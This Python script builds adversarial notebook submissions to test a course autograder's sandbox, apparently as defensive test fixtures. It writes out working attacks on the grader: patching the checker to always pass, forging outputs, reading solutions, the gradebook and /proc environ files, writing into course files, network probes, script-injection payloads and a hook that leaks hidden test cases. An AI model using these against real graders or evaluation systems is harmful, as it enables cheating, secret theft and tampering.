"""Adversarial submissions of chapter 02, built from the release as a student would build them.

Each case starts from the released notebook (chapters/02_self_attention), fills in answers (the
solutions' answer bodies, or wrong ones) and adds what the attack needs: code in an answer cell,
an extra cell, edited metadata. `CASES` says, for each, what it tries and what the grader must do
with it: the score of every test and the notes the report must carry. tests/test_grading_adversarial.py
grades them all in one run (honest correct student first, honest wrong student last).

    python autograder/adversarial/build.py OUTDIR [--port PORT] [--course COURSE_ROOT]

writes OUTDIR/STUDENT/02_self_attention/02_self_attention.ipynb for every case (PORT: a TCP port
on the grading machine the network probe tries to reach; COURSE_ROOT: the course whose files the
probes try to read and write).
"""

from __future__ import annotations

import argparse
import copy
import dataclasses
import json
import re
import textwrap
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
CHAPTER = "02_self_attention"
TESTS = {"project_qkv_test": 1.0, "attention_scores_test": 1.0, "softmax_test": 2.0, "scaled_attention_test": 2.0,
         "self_attention_test": 2.0, "self_attention_layer_test": 3.0}
ANSWERS = ["project_qkv", "attention_scores", "softmax", "scaled_attention", "self_attention", "self_attention_layer"]
STUB = re.compile(r"^([ \t]*)# YOUR CODE HERE\n[ \t]*raise NotImplementedError\(\)[ \t]*$", re.M)
SOLUTION = re.compile(r"^[ \t]*### BEGIN SOLUTION\n(.*?)^[ \t]*### END SOLUTION[ \t]*$", re.S | re.M)

WRONG = {  # honest mistakes, each one the checker's catalogue or properties should name
    "project_qkv": "return x @ w_q, x @ w_q, x @ w_v",
    "attention_scores": "return q @ k.transpose(-2, -1)",
    "softmax": "e = x.exp()\nreturn e / e.sum(dim=-1, keepdim=True)",
    "scaled_attention": ("scores = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])\n"
                         "weights = torch.softmax(scores, dim=-1)\n"
                         "if mask is not None:\n    weights = weights.masked_fill(~mask, 0.0)\n"
                         "return weights @ v, weights"),
    "self_attention": ("q, k, v = x @ w_q, x @ w_k, x @ w_v\n"
                       "weights = torch.softmax(q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1]), dim=-2)\n"
                       "return weights @ v, weights"),
    "self_attention_layer": ("q, k, v = self.w_q(x), self.w_k(x), self.w_v(x)\n"  # lengths ignored: padding is seen
                             "weights = torch.softmax(q @ k.transpose(-2, -1) / math.sqrt(self.d_k), dim=-1)\n"
                             "return weights @ v, weights"),
}


@dataclasses.dataclass
class Case:
    student: str
    attack: str  # what it tries, in one line
    scores: dict  # test grade_id -> expected score
    notes: dict = dataclasses.field(default_factory=dict)  # test grade_id or "*" -> regex a note must match
    quiet: bool = False  # no note at all
    slow: bool = False  # a hang: costs the cell timeout

    @property
    def total(self) -> float:
        return sum(self.scores.values())


def _full(**zero) -> dict:
    return {t: (0.0 if t in zero or "all" in zero else p) for t, p in TESTS.items()}


def _sources():
    release = nbformat.read(ROOT / "chapters" / CHAPTER / f"{CHAPTER}.ipynb", as_version=4)
    solution = nbformat.read(ROOT / "solutions" / CHAPTER / f"{CHAPTER}.ipynb", as_version=4)
    correct = {}
    for cell in solution.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if cell.metadata.get("nbgrader", {}).get("solution"):
            body = SOLUTION.search(cell.source).group(1)
            correct[gid] = textwrap.dedent(body).strip("\n")
    return release, correct


class Notebook:
    """A learner's copy of the release, edited the way a learner would."""

    def __init__(self, release, correct):
        self.nb = copy.deepcopy(release)
        self.correct = correct

    def cell(self, grade_id):
        return next(c for c in self.nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)

    def index(self, grade_id):
        return next(i for i, c in enumerate(self.nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)

    def answer(self, grade_id, body: str | None = None, before: str = "", after: str = ""):
        """Fill an answer cell (the correct body unless `body`), with module-level code before/after.
        An answer already filled in keeps its body."""
        cell = self.cell(grade_id)
        body = self.correct[grade_id] if body is None else textwrap.dedent(body).strip("\n")
        cell.source = STUB.sub(lambda m: "\n".join(m.group(1) + line for line in body.splitlines()), cell.source)
        if before:
            cell.source = textwrap.dedent(before).strip("\n") + "\n\n" + cell.source
        if after:
            cell.source += "\n\n" + textwrap.dedent(after).strip("\n")
        return self

    def all_correct(self, **bodies):
        for gid in ANSWERS:
            self.answer(gid, bodies.get(gid))
        return self

    def add_cell(self, after_grade_id: str | None, source: str, kind: str = "code"):
        """A new cell right after the cell `after_grade_id` (after the imports cell when None)."""
        new = (nbformat.v4.new_code_cell if kind == "code" else nbformat.v4.new_markdown_cell)(textwrap.dedent(source).strip("\n"))
        if after_grade_id is None:
            position = next(i for i, c in enumerate(self.nb.cells) if c.cell_type == "code") + 1
        else:
            position = self.index(after_grade_id) + 1
        self.nb.cells.insert(position, new)
        return self


def _guarded(body: str) -> str:
    """A correct body that turns wrong if the probe cell escaped the sandbox (so a leak costs points)."""
    return "if _ESCAPED:\n    return None\n" + body


def cases(port: int, course: Path) -> list[tuple[Case, object]]:
    """(case, builder) pairs; a builder takes (release, correct answers) and returns a notebook or bytes."""
    course = Path(course)
    solutions = course / "solutions" / CHAPTER / f"{CHAPTER}.ipynb"
    gradebook = course / "autograder" / "gradebook.db"
    submitted = course / "autograder" / "submitted"
    core = ROOT / "transformer_lib" / "checks" / "core.py"

    def correct(r, c):
        return Notebook(r, c).all_correct().nb

    def wrong(r, c):
        n = Notebook(r, c).answer("project_qkv")
        for gid in ANSWERS[1:]:
            n.answer(gid, WRONG[gid])
        return n.nb

    def all_wrong_bodies():
        return {gid: "return None" if gid != "project_qkv" else "return x, x, x" for gid in ANSWERS}

    def probe(r, c, code: str):
        n = Notebook(r, c).add_cell(None, "_ESCAPED = []\n" + textwrap.dedent(code))
        for gid in ANSWERS:
            n.answer(gid, _guarded(c[gid]))
        return n.nb

    def edit_checker(r, c):
        return Notebook(r, c).all_correct(**all_wrong_bodies()).answer("project_qkv", "return x, x, x", before=f"""
            import transformer_lib.checks.core as _core
            _patch = "\\n\\ndef _always(self, outputs, hidden=False):\\n    return Verdict(True, 'all cases match')\\nChecker.judge = _always\\n"
            for _path in {{_core.__file__, {str(core)!r}}}:
                try:
                    with open(_path, "a") as _f:
                        _f.write(_patch)
                except OSError:
                    pass
            """).nb

    def forge_collector(r, c):
        return Notebook(r, c).all_correct(**all_wrong_bodies()).answer("project_qkv", "return x, x, x", before="""
            import transformer_lib.checks.core as _core
            _orig = _core.Checker.collect_outputs
            _core.Checker.collect_outputs = lambda self, fn, hidden=False: _orig(self, self.reference, hidden)
            _core.Checker._call = lambda self, fn, case: (
                self.invoke(self.reference, case) if self.invoke else self.reference(*case.args, **case.kwargs))
            """).nb

    def forge_atexit(r, c):
        return Notebook(r, c).all_correct(**all_wrong_bodies()).add_cell(None, """
            import atexit, glob, io, os, struct, torch
            from transformer_lib.checks import REGISTRY

            def _forge():
                fake = {}
                for name, checker in REGISTRY.items():
                    try:
                        fake[name + "_test"] = [checker.collect_outputs(checker.reference, True)]
                    except Exception:
                        pass
                for path in glob.glob("/tmp/**/outputs.pt", recursive=True) + ["outputs.pt"]:
                    try:
                        torch.save(fake, path)
                    except Exception:
                        pass
                buffer = io.BytesIO()
                torch.save(fake, buffer)
                for fd in range(3, 64):
                    try:
                        os.write(fd, b"R" + struct.pack(">Q", len(buffer.getvalue())) + buffer.getvalue())
                    except OSError:
                        pass
            atexit.register(_forge)
            """).nb

    def import_reference_cell(r, c):
        n = Notebook(r, c).all_correct(softmax="return _reference_softmax(x)")
        n.cell("softmax").source = "from transformer_lib.attention import softmax as _reference_softmax\n\n" + n.cell("softmax").source
        return n.nb

    def forbidden(r, c):
        return Notebook(r, c).all_correct(softmax="return torch.softmax(x, dim=-1)").nb

    def os_exit(r, c):
        return _with_after(Notebook(r, c).all_correct(), "scaled_attention", "import os\nos._exit(0)").nb

    def swallow(r, c):
        return Notebook(r, c).all_correct(self_attention="""
            while True:
                try:
                    while True:
                        pass
                except BaseException:  # KeyboardInterrupt, the grader's timeout, anything
                    pass
            """).nb

    def duplicated(r, c):
        n = Notebook(r, c).all_correct()
        position = n.index("softmax")
        duplicate = copy.deepcopy(n.nb.cells[position])
        duplicate["id"] = "copied-answer"  # JupyterLab gives a pasted cell a new id, and keeps its metadata
        n.nb.cells.insert(position + 1, duplicate)
        return n.nb

    def bad_schema(r, c):
        n = Notebook(r, c).all_correct()
        n.cell("softmax").metadata["nbgrader"]["schema_version"] = 99
        return n.nb

    def tensor_subclass(r, c):
        return Notebook(r, c).all_correct(softmax=c["softmax"].replace("return e / e.sum(dim=-1, keepdim=True)",
                                                                      "return (e / e.sum(dim=-1, keepdim=True)).as_subclass(_Evil)")) \
            .add_cell(None, "import torch\n\nclass _Evil(torch.Tensor):\n    pass").nb

    def int_subclass(r, c):
        return Notebook(r, c).all_correct(attention_scores="return _Int(7)").add_cell(
            None, "class _Int(int):\n    def __reduce__(self):\n        return (_Int, (int(self),))").nb

    def garbage(r, c):
        return _with_after(Notebook(r, c).all_correct(), "scaled_attention", """
            import torch
            def _garbage(obj, f, *args, **kwargs):
                f.write(b"PK\\x03\\x04" + b"\\xff" * 200)
            torch.save = _garbage
            """).nb

    def sleepers(r, c):
        return _with_after(Notebook(r, c).all_correct(), "project_qkv", """
            import subprocess
            _sleepers = []
            for _ in range(200):
                try:
                    _sleepers.append(subprocess.Popen(["sleep", "3600"], close_fds=False, start_new_session=True))
                except OSError:
                    break
            """).nb

    def ignore_alarm(r, c):
        return _with_after(Notebook(r, c).all_correct(softmax="while True:\n    pass"), "softmax",
                           "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)").nb

    def huge(r, c):
        return Notebook(r, c).all_correct(softmax="return torch.empty(2**29)  # 2 GiB of float32",
                                          attention_scores="return torch.ones(26_000_000)  # 100 MiB").nb

    def prerun_hook(r, c):
        return Notebook(r, c).all_correct().add_cell(None, """
            import transformer_lib.checks.ch02 as _ch02

            def _leak(info):
                print("CELL SOURCE:", info.raw_cell)
                print("HIDDEN CASES:", [case.describe() for chk in (_ch02.check_softmax, _ch02.check_self_attention,
                                                                    _ch02.check_project_qkv, _ch02.check_attention_scores,
                                                                    _ch02.check_scaled_attention)
                                        for case in chk.cases(hidden=True) if case.hidden])

            get_ipython().events.register("pre_run_cell", _leak)
            """).nb

    def script(r, c):
        return _with_after(Notebook(r, c).all_correct(), "project_qkv", """
            from IPython.display import HTML, Javascript, Markdown, display
            display(HTML('<script>document.title = "PWNED-HTML"</script><b>bold</b>'))
            display(Markdown('<script>alert("PWNED-MD")</script>'))
            display(Javascript('alert("PWNED-JS")'))
            print('<script>alert("PWNED-PRINT")</script>')
            """).add_cell("project_qkv", '<script>alert("PWNED-CELL")</script>\n<img src=x onerror="alert(1)">',
                          kind="markdown").nb

    def noisy(r, c):
        bodies = {gid: f"import sys, warnings\nwarnings.warn('a warning from {gid}')\n"
                       f"print('debug output on stderr', file=sys.stderr)\n" + c[gid] for gid in ANSWERS}
        return Notebook(r, c).all_correct(**bodies).nb

    network = f"""
        import socket
        for _address in [("127.0.0.1", {port}), ("1.1.1.1", 53), ("8.8.8.8", 443)]:
            try:
                socket.create_connection(_address, timeout=3).close()
                _ESCAPED.append(_address)
            except OSError:
                pass
        """
    read_secrets = f"""
        import glob, os
        for _path in [{str(solutions)!r}, {str(gradebook)!r}, "/proc/1/environ", "/proc/%d/environ" % os.getppid()]:
            try:
                with open(_path, "rb") as _f:
                    if _f.read(10):
                        _ESCAPED.append(_path)
            except OSError:
                pass
        for _folder in [{str(submitted)!r}, {str(course / "solutions")!r}]:
            try:
                if os.listdir(_folder):
                    _ESCAPED.append(_folder)
            except OSError:
                pass
        if any(k.startswith("COURSE_") or k in ("JUPYTER_CONFIG_PATH", "SUDO_USER") for k in os.environ):
            _ESCAPED.append("environment")
        """
    write_course = f"""
        import os
        for _path in [{str(course / "autograder" / "pwned.txt")!r}, {str(course / "solutions" / "pwned.txt")!r},
                      {str(core)!r}, {str(ROOT / "pwned.txt")!r}]:
            try:
                with open(_path, "a") as _f:
                    _f.write("pwned")
                _ESCAPED.append(_path)
            except OSError:
                pass
        """

    c_notes = "failed the independent check"
    return [
        (Case("a_honest_correct", "the release with every answer right", _full(), quiet=True), correct),
        (Case("edit_checker_source", "an answer cell appends `judge = always pass` to transformer_lib/checks/core.py; "
              "its own answers are wrong", _full(all=True), {t: c_notes for t in TESTS}), edit_checker),
        (Case("forge_collector", "patches Checker.collect_outputs/_call to run the reference; answers wrong",
              _full(all=True), {t: "reference implementation" for t in TESTS}), forge_collector),
        (Case("forge_atexit", "an atexit handler rewrites the outputs (file and pipes) with the reference's; answers wrong",
              _full(all=True), {t: c_notes for t in TESTS}), forge_atexit),
        (Case("import_reference", "softmax returns transformer_lib.attention.softmax(x)",
              _full(softmax_test=0), {"softmax_test": r"reference implementation \(transformer_lib\.attention\.softmax"}),
         import_reference_cell),
        (Case("forbidden_api", "softmax calls torch.softmax, which the exercise forbids",
              _full(softmax_test=0), {"softmax_test": r"calls .*torch\.softmax.*forbids"}), forbidden),
        (Case("os_exit", "os._exit(0) at the end of the scaled_attention answer cell",
              _full(scaled_attention_test=0, self_attention_test=0, self_attention_layer_test=0),
              {"scaled_attention_test": "process ended", "self_attention_test": "process ended",
               "self_attention_layer_test": "process ended"}), os_exit),
        (Case("swallow_interrupts", "self_attention loops and swallows every interrupt (except BaseException: pass)",
              _full(self_attention_test=0), {"self_attention_test": "did not stop when interrupted",
                                             "*": "did not respond to the interrupt"}, slow=True), swallow),
        (Case("duplicated_id", "the softmax answer cell copied, nbgrader id and all", _full(),
              {"*": "repeats the nbgrader id 'softmax'"}), duplicated),
        (Case("bad_schema", "the softmax answer cell's schema_version set to 99", _full(),
              {"*": "schema_version 99"}), bad_schema),
        (Case("malformed_tensor_subclass", "softmax returns a torch.Tensor subclass",
              _full(softmax_test=0), {"softmax_test": "malformed or oddly typed"}), tensor_subclass),
        (Case("malformed_int_subclass", "attention_scores returns an int subclass",
              _full(attention_scores_test=0), {"attention_scores_test": "malformed or oddly typed"}), int_subclass),
        (Case("malformed_garbage", "torch.save replaced by a writer of garbage after the scaled_attention answer",
              _full(scaled_attention_test=0, self_attention_test=0, self_attention_layer_test=0),
              {"scaled_attention_test": "malformed or oddly typed", "self_attention_test": "malformed or oddly typed",
               "self_attention_layer_test": "malformed or oddly typed"}),
         garbage),
        (Case("sleep_children", "200 `sleep 3600` children holding the sandbox's pipes", _full(), quiet=True), sleepers),
        (Case("ignore_sigalrm", "SIGALRM ignored, then softmax loops forever",
              _full(softmax_test=0), {"softmax_test": "did not stop when interrupted"}, slow=True), ignore_alarm),
        (Case("huge_outputs", "softmax returns 2 GiB, attention_scores 100 MiB",
              _full(softmax_test=0, attention_scores_test=0),
              {"attention_scores_test": "larger than 64 MiB", "softmax_test": c_notes}), huge),
        (Case("prerun_hook", "a pre_run_cell hook prints every cell's source and the hidden cases", _full(), quiet=True),
         prerun_hook),
        (Case("script_output", "<script> in HTML/Markdown/JS outputs, printed text and a markdown cell", _full(),
              quiet=True), script),
        (Case("warnings_stderr", "right answers that warn and print to stderr", _full(), quiet=True), noisy),
        (Case("network", "connects to the grader's machine and to the internet (a leak would make its answers wrong)",
              _full(), quiet=True), lambda r, c: probe(r, c, network)),
        (Case("read_secrets", "reads solutions/, the gradebook, other submissions, other processes' environment",
              _full(), quiet=True), lambda r, c: probe(r, c, read_secrets)),
        (Case("write_course", "writes into autograder/, solutions/, transformer_lib/ and the course root",
              _full(), quiet=True), lambda r, c: probe(r, c, write_course)),
        (Case("zz_honest_wrong", "the release with honest mistakes in five answers",
              _full(attention_scores_test=0, softmax_test=0, scaled_attention_test=0, self_attention_test=0,
                    self_attention_layer_test=0),
              {"attention_scores_test": r"sqrt", "softmax_test": c_notes, "scaled_attention_test": "mask",
               "self_attention_test": c_notes, "self_attention_layer_test": "lengths"}), wrong),
    ]


def _with_after(notebook: Notebook, grade_id: str, code: str) -> Notebook:
    """The answer cell `grade_id` with module-level code appended after its function."""
    notebook.cell(grade_id).source += "\n\n" + textwrap.dedent(code).strip("\n")
    return notebook


def build(out: Path, port: int, course: Path, only: list[str] | None = None) -> list[Case]:
    """Write every case's notebook to OUT/STUDENT/02_self_attention/02_self_attention.ipynb."""
    release, correct = _sources()
    built = []
    for case, make in cases(port, course):
        if only and case.student not in only:
            continue
        nb = make(release, correct)
        folder = Path(out) / case.student / CHAPTER
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / f"{CHAPTER}.ipynb"
        if isinstance(nb, bytes):
            path.write_bytes(nb)
        else:
            nbformat.write(nb, path)
        built.append(case)
    return built


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("out", type=Path)
    parser.add_argument("--port", type=int, default=9)
    parser.add_argument("--course", type=Path, default=ROOT)
    args = parser.parse_args(argv)
    for case in build(args.out, args.port, args.course):
        print(f"{case.student:28s} {case.total:g}/8  {case.attack}")
    (args.out / "expected.json").write_text(json.dumps(
        {c.student: {"scores": c.scores, "notes": c.notes} for c, _ in cases(args.port, args.course)}, indent=1))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
